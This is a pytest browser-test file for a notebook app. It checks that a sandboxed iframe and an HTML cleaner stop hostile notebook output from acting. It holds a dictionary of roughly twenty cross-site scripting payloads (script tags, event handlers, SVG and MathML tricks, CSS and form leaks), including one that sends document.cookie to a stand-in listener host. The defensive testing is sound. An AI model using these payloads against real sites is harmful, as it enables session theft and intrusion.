# ruff: noqa: E501 (a payload is one line)
"""Whatever a notebook puts out, it acts for nobody: tried in a real browser, beside a listener."""

import json
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest
from bokeh.document import Document
from bokeh.events import DocumentReady
from bokeh.models import CustomJS, Div
from bokeh.plotting import figure
from markupsafe import Markup
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from playwright.sync_api import Browser, Page, expect

from tests.ui.conftest import Visitor
from workbench.ui.documents import harmless
from workbench.ui.foreign import cleaned, framed
from workbench.ui.view import View

# Each acts by itself or on a click; {far} is the listener. What reaches the page sets its title.
PAYLOADS = {
    "script": "<script>fetch('{far}/script')</script>",
    "script of elsewhere": "<script src='{far}/src.js'></script>",
    "module": "<script type=module>import '{far}/module.js'</script>",
    "event": "<img src=x onerror=\"fetch('{far}/onerror')\"><details open ontoggle=\"fetch('{far}/toggle')\">x</details>",
    "SVG": "<svg onload=\"fetch('{far}/svg')\"><image href='{far}/svgimage'/><use href='{far}/use.svg#x'/>"
    "<foreignObject><body onload=\"fetch('{far}/fo')\"></body></foreignObject>"
    "<animate onbegin=\"fetch('{far}/begin')\" attributeName=x dur=1s></svg>",
    "MathML": "<math><mtext><table><mglyph><style><img src=x onerror=\"fetch('{far}/mxss')\"></style></mglyph>"
    "</table></mtext></math>",
    "picture": "<img src='{far}/img'><img srcset='{far}/srcset 1x'><picture><source srcset='{far}/source'><img></picture>",
    "style": "<style>@import '{far}/import.css'; body {{ background: url({far}/css) }}</style>"
    "<p style='background: url({far}/inline)'>x</p><link rel=stylesheet href='{far}/link.css'>",
    "font": "<style>@font-face {{ font-family: f; src: url({far}/font) }} p {{ font-family: f }}</style><p>x</p>",
    "prefetch": "<link rel=prefetch href='{far}/prefetch'><link rel=dns-prefetch href='{far}'><link rel=preload as=image "
    "href='{far}/preload'><link rel=icon href='{far}/icon'>",
    "refresh": "<meta http-equiv=refresh content='0;url={far}/refresh'>",
    "base": "<base href='{far}/base/'><img src=relative.png>",
    "frame": "<iframe src='{far}/frame'></iframe><iframe srcdoc=\"<script>top.document.title='owned'</script>"
    "<img src='{far}/srcdoc'>\"></iframe><object data='{far}/object'></object><embed src='{far}/embed'>",
    "media": "<video autoplay src='{far}/video' poster='{far}/poster'></video><audio autoplay src='{far}/audio'></audio>",
    "form": "<form action='{far}/form'><input name=q value=1 autofocus onfocus=this.form.submit()><button>Go</button></form>"
    "<button form=f formaction='{far}/formaction'>Go</button>",
    "link": "<a href='javascript:fetch(\"{far}/javascript\")'>Go</a> <a href='{far}/a' ping='{far}/ping'>Go</a> "
    "<a target=_top href='{far}/top'>Go</a> <a href='data:text/html,<script>fetch(\"{far}/data\")</script>'>Go</a>",
    "page": "<script>parent.document.title='owned'; top.location='{far}/location?' + document.cookie</script>",
    "window": "<script>window.open('{far}/open'); parent.postMessage('owned', '*')</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{far}/worker')\"])))</script>",
    "socket": "<script>new WebSocket('{far}/ws'.replace('http', 'ws')); navigator.sendBeacon('{far}/beacon')</script>",
    "our own": "<div class='verdict bad' style='position:fixed;inset:0'>x</div><script>fetch('/api/v1/runs')</script>",
}  # fmt: skip


@dataclass
class Listener:
    """A server on another origin that notes what is asked of it."""

    url: str
    asked: list[str] = field(default_factory=list)


@pytest.fixture
def listener() -> Iterator[Listener]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.asked.append(self.path)
            body = self.server.pages.get(self.path.split("?")[0], b"")
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None:
            """Print nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        server.pages = {}
        found = Listener(f"http://127.0.0.1:{server.server_port}")
        found.serve = lambda path, body: server.pages.__setitem__(path, body.encode())
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield found
        server.shutdown()


def payloads(listener: Listener) -> str:
    return "\n".join(f"<h4>{name}</h4>{html.format(far=listener.url)}" for name, html in PAYLOADS.items())


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    yield context.new_page()
    context.close()


def click_everything(frame: object) -> None:
    for thing in frame.locator("a, button, input, summary").all():
        thing.click(force=True, timeout=2000, no_wait_after=True)


def settled(page: Page) -> None:
    """Let everything that acts by itself do so: a later answer of the same origin has overtaken it."""
    page.evaluate("() => new Promise(done => setTimeout(done, 700))")


def test_the_payloads_do_reach_the_listener_where_nothing_stops_them(page: Page, listener: Listener):
    html = "".join(
        text for name, text in PAYLOADS.items() if name not in {"page", "window", "refresh", "base"}
    )
    listener.serve("/page", f"<title>ours</title>{html.format(far=listener.url)}")

    page.goto(listener.url + "/page")
    settled(page)

    assert {"/script", "/onerror", "/svgimage", "/css", "/img", "/font", "/frame"} <= set(listener.asked)


@pytest.mark.parametrize("clean", [True, False], ids=["cleaned and framed", "framed alone"])
def test_nothing_in_the_frame_acts(page: Page, listener: Listener, clean: bool):
    view = View(bench=SimpleNamespace(), language="en")
    raw = payloads(listener)
    body = cleaned(raw) if clean else Markup(raw)
    own = (
        "<title>ours</title><script>document.cookie='secret=1'; window.heard=[];"
        "addEventListener('message', event => heard.push(event.data))</script>"
    )
    listener.serve("/page", own + str(framed(view, body, title="foreign", height="2000px")))
    opened: list[str] = []
    page.context.on("page", lambda new: opened.append(new.url))

    page.goto(listener.url + "/page")
    frame = page.frame_locator("iframe").first
    expect(frame.locator("h4").first).to_have_text("script")
    click_everything(frame)
    settled(page)

    assert [asked for asked in listener.asked if asked not in {"/page", "/favicon.ico"}] == []
    assert (page.title(), page.url, opened) == ("ours", listener.url + "/page", [])
    assert page.evaluate("heard") == []


def test_cleaned_html_acts_nowhere(page: Page, listener: Listener):
    listener.serve("/page", "<title>ours</title>" + str(cleaned(payloads(listener))))

    page.goto(listener.url + "/page")
    click_everything(page)
    settled(page)

    assert [asked for asked in listener.asked if asked not in {"/page", "/favicon.ico"}] == []


def hostile(listener: Listener) -> nbformat.NotebookNode:
    html = payloads(listener)
    outputs = [
        new_output("display_data", data={"text/html": html, "text/plain": "x"}),
        new_output("display_data", data={"image/svg+xml": html, "text/plain": "x"}),
        new_output("display_data", data={"text/markdown": html + f"\n![x]({listener.url}/md)", "text/plain": "x"}),
        new_output("display_data", data={"text/latex": f"$\\href{{javascript:fetch('{listener.url}/tex')}}{{x}}$"}),
        new_output("display_data", data={"application/javascript": f"fetch('{listener.url}/js')", "text/plain": "x"}),
        new_output("display_data", data={"image/png": f"\"><script>fetch('{listener.url}/png')</script>"}),
        new_output(
            "display_data",
            data={"application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2}},
        ),
        new_output("stream", text=f"\x1b]8;;{listener.url}/osc\x07x\x1b]8;;\x07\x1b[2J<script>fetch('{listener.url}/out')</script>"),
        new_output("error", ename=html, evalue=html, traceback=[html]),
    ]  # fmt: skip
    state = {"m": {"model_name": "</script>" + html, "model_module": html, "state": {"value": html}}}
    return new_notebook(
        cells=[new_markdown_cell("# Hostile\n" + html), new_code_cell("1", outputs=outputs)],
        metadata={"widgets": {"application/vnd.jupyter.widget-state+json": {"state": state}}, "title": html},
    )


def test_the_app_shows_a_hostile_notebook_and_nothing_leaves(
    visitor: Visitor, listener: Listener, served, tmp_path: Path
):
    source = hostile(listener)
    cells = [new_markdown_cell(source.cells[0].source)]
    for output in source.cells[1].outputs[:-1]:
        if output.output_type == "display_data":
            cells.append(
                new_code_cell(
                    f"import json\nfrom IPython.display import display\ndisplay(json.loads({json.dumps(json.dumps(output.data))!s}), raw=True)"
                )
            )
        else:
            cells.append(new_code_cell(f"print({output.text!r})"))
    path = served.home / "templates" / "hostile.ipynb"
    path.parent.mkdir(exist_ok=True)
    nbformat.write(new_notebook(cells=cells), path)
    command = [sys.executable, "-m", "workbench", "run", "hostile", "--workspace", str(served.home), "--json"]
    told = subprocess.run(command, capture_output=True, text=True, check=False)
    assert told.returncode == 0, told.stderr + told.stdout
    run = json.loads(told.stdout)["run"]

    visitor.visit(f"/app?run={run}")
    for tab in ("Result", "Notebook"):
        visitor.page.get_by_text(tab, exact=True).first.click()
        frame = visitor.page.frame_locator("iframe").first
        expect(frame.locator("h1").first).to_have_text("Hostile")
        click_everything(frame)
    settled(visitor.page)

    assert listener.asked == []
    # The picture that is none cannot be decoded; the browser says so.
    visitor.troubles = [said for said in visitor.troubles if "ERR_INVALID_URL" not in said]


@pytest.mark.parametrize(
    "model",
    [Div(text="<img src=x onerror=alert(1)>"), CustomJS(code="alert(1)")],
    ids=["raw HTML", "a script"],
)
def test_a_chart_of_a_stranger_that_could_act_is_not_drawn(model):
    document = Document()
    plot = figure()
    plot.line([1, 2], [3, 4])
    document.add_root(plot)
    harmless(document.to_json().content)
    if isinstance(model, CustomJS):
        document.js_on_event(DocumentReady, model)
    else:
        document.add_root(model)

    with pytest.raises(ValueError, match="for safety"):
        harmless(document.to_json().content)
